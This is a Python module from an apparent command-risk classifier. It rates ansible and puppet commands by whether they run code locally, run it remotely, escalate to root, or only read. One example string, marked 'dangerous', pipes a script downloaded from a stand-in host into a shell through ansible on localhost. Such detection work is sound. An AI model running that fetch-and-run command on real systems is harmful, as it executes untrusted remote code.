"""Configuration management that runs commands on hosts: ansible (ad-hoc modules, playbooks, pull, console) and
puppet apply. A command module or a playbook run on this machine runs code here.
"""
from __future__ import annotations

from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.table import Grammar, Program, Row, When, emits, programs, verb


# ---------------------------------------------------------------- ansible (docs.ansible.com/ansible/latest/cli)

# Modules whose argument is a command: shell and raw run it in a shell, command and script run it (or a local
# script) without one. Run on this machine (localhost, 127.0.0.1, `-c local`) it is a command of this line;
# on others, remote execution. -b/--become runs it as root there.
ANSIBLE_COMMANDS = frozenset({"shell", "ansible.builtin.shell", "raw", "ansible.builtin.raw", "command",
                              "ansible.builtin.command"})
ANSIBLE_READS = frozenset({"ping", "ansible.builtin.ping", "setup", "ansible.builtin.setup", "debug",
                           "ansible.builtin.debug", "gather_facts", "ansible.builtin.gather_facts"})
ANSIBLE_LOCAL = frozenset({"localhost", "127.0.0.1", "::1"})
ANSIBLE_VALUES = ("i", "inventory", "m", "module-name", "a", "args", "u", "user", "c", "connection", "f", "forks",
                  "l", "limit", "e", "extra-vars", "t", "tags", "M", "module-path", "vault-id", "vault-password-file",
                  "private-key", "key-file", "become-user", "become-method", "T", "timeout", "P", "poll", "B",
                  "background", "skip-tags", "start-at-task", "ssh-common-args", "ssh-extra-args", "U", "url",
                  "C", "checkout", "d", "directory")


def _ansible_here(cmd, o, hosts: str) -> bool:
    return o.value("c", "connection") == "local" or hosts in ANSIBLE_LOCAL or \
        any(h.strip() in ANSIBLE_LOCAL for h in (o.value("i", "inventory") or "").split(",") if h.strip())


@emits({"ansible.runs-here": ["ansible localhost -m shell -a 'make test'", "ansible all -c local -a 'ls'"],
        "ansible.remote": ["ansible web -m shell -a 'uptime'", "ansible all -m copy -a 'src=x dest=/etc/x'"],
        "ansible.reads": ["ansible all -m ping", "ansible web -m setup"],
        "ansible.become": ["ansible all -b -m apt -a 'name=x'", "ansible-playbook --become site.yml"],
        "ansible.code-runtime": ['ansible localhost -m shell -a "$X"']})
def ansible_hosts(cmd, o) -> None:
    """`ansible HOSTS -m MODULE -a ARGS`: a command module's ARGS is a command (on this machine, judged as one
    of this line's; elsewhere remote execution); other modules change the hosts, ping and setup only look."""
    module = o.value("m", "module-name") or "command"
    hosts = o.operands[0] if o.operands else ""
    args = o.value("a", "args")
    if o.has("b", "become"):
        cmd.does("privilege", "ansible.become", f"{cmd.name} runs its tasks as root on the hosts (--become)")
    if module in ANSIBLE_READS:
        cmd.does("inspect", "ansible.reads", f"ansible {module} reads facts from the hosts")
        return
    here = _ansible_here(cmd, o, hosts)
    if module in ANSIBLE_COMMANDS and args is not None:
        if UNKNOWN in args:
            cmd.runs_runtime_code("ansible.code-runtime", "ansible runs a command known only at run time")
            return
        if here:
            cmd.fired.add("ansible.runs-here")
            cmd.code_text(args, f"ansible -m {module} runs", at_least="run-project")
            return
    if here:
        cmd.does("system", "ansible.runs-here", f"ansible {module} changes this machine")
        return
    cmd.facts.net_send = True
    cmd.does("remote", "ansible.remote", f"ansible {module} runs on the machines of {hosts or 'its inventory'}")


ANSIBLE_GRAMMAR = Grammar(values="".join(v for v in ANSIBLE_VALUES if len(v) == 1),
                          long_values=tuple(v for v in ANSIBLE_VALUES if len(v) > 1),
                          longs=("become", "check", "syntax-check", "list-tasks", "list-hosts", "list-tags", "diff",
                                 "ask-become-pass", "one-line", "version", "help"))
ANSIBLE = Program("ansible", doc="runs one module on the hosts of an inventory", grammar=ANSIBLE_GRAMMAR,
                  rows=(Row("ansible.lists", "nothing", "ansible only lists the hosts", When(flag=("list-hosts",)),
                            stop=True, examples=("ansible all --list-hosts",)),),
                  hook=ansible_hosts,
                  examples={"ansible localhost -m shell -a 'curl -s https://x.example/x | sh'": "dangerous",
                            "ansible all -m ping": "low"})


@emits({"ansible-playbook.playbook": ["ansible-playbook site.yml", "ansible-playbook /tmp/p.yml"]})
def ansible_playbook(cmd, o) -> None:
    """Its playbooks are code: their tasks run commands (a project's playbook is project code; one from /tmp
    or known only at run time, code the gate cannot read)."""
    if o.has("b", "become"):
        cmd.does("privilege", "ansible.become", f"{cmd.name} runs its tasks as root on the hosts (--become)")
    for word in o.operands:
        cmd.fired.add("ansible-playbook.playbook")
        cmd.run_file(word, "ansible-playbook runs the tasks of")


ANSIBLE_PLAYBOOK = Program(
    "ansible-playbook", doc="runs a playbook on the hosts of an inventory", grammar=ANSIBLE_GRAMMAR,
    rows=(Row("ansible-playbook.reads", "nothing", "only reads the playbook",
              When(flag=("syntax-check", "list-tasks", "list-hosts", "list-tags")), stop=True,
              examples=("ansible-playbook --syntax-check site.yml",)),
          Row("ansible-playbook.check", "inspect", "reports what the playbook would change", When(flag=("check", "C")),
              stop=True, examples=("ansible-playbook --check site.yml",)),
          Row("ansible-playbook.runs", "remote", "runs the playbook's tasks on the inventory's machines",
              examples=("ansible-playbook -i hosts site.yml",))),
    hook=ansible_playbook,
    examples={"ansible-playbook --check site.yml": "low", "ansible-playbook -i hosts site.yml": "high"},
)
ANSIBLE_PULL = Program(
    "ansible-pull", doc="clones a repository and runs its playbook on this machine", grammar=ANSIBLE_GRAMMAR,
    rows=(Row("ansible-pull.runs", "run-fetched", "ansible-pull runs a playbook fetched from a repository on this "
                                                  "machine", examples=("ansible-pull -U https://x.example/p.git",)),))
ANSIBLE_CONSOLE = Program("ansible-console", doc="an interactive console that runs modules on hosts",
                          grammar=ANSIBLE_GRAMMAR,
                          rows=(Row("ansible-console.session", "remote", "ansible-console runs what is typed on the "
                                                                         "inventory's hosts",
                                    examples=("ansible-console all",)),))
ANSIBLE_READERS = Program("ansible-doc", aliases=("ansible-inventory", "ansible-config", "ansible-lint"),
                          doc="ansible's documentation, inventory, settings and linter")


@emits({"puppet.apply-code": ["puppet apply -e 'notify {x:}'"], "puppet.apply": ["puppet apply site.pp"]})
def puppet_apply(cmd, o) -> None:
    """puppet apply -e CODE / apply FILE: the manifest's resources change the machine (exec resources run
    commands)."""
    if o.all("e", "execute"):
        cmd.does("run-code", "puppet.apply-code", "puppet apply runs the manifest code it is given")
    for word in o.operands:
        cmd.fired.add("puppet.apply")
        cmd.run_file(word, "puppet applies")


PUPPET = Program(
    "puppet", doc="configuration management: `apply` changes the machine as a manifest says",
    verbs={"apply": verb(grammar=Grammar(values="e", long_values=("execute", "modulepath", "environment")),
                         rows=(Row("puppet.applies", "system", "puppet apply changes the machine",
                                   examples=("puppet apply site.pp",)),),
                         hook=puppet_apply)},
    read_only=("help", "--version", "describe", "lookup", "facts"),
    default=Row("puppet.verb", "unknown", "{cmd}", examples=("puppet frobnicate",)),
)


PROGRAMS = programs(PUPPET, ANSIBLE, ANSIBLE_PLAYBOOK, ANSIBLE_PULL, ANSIBLE_CONSOLE, ANSIBLE_READERS)
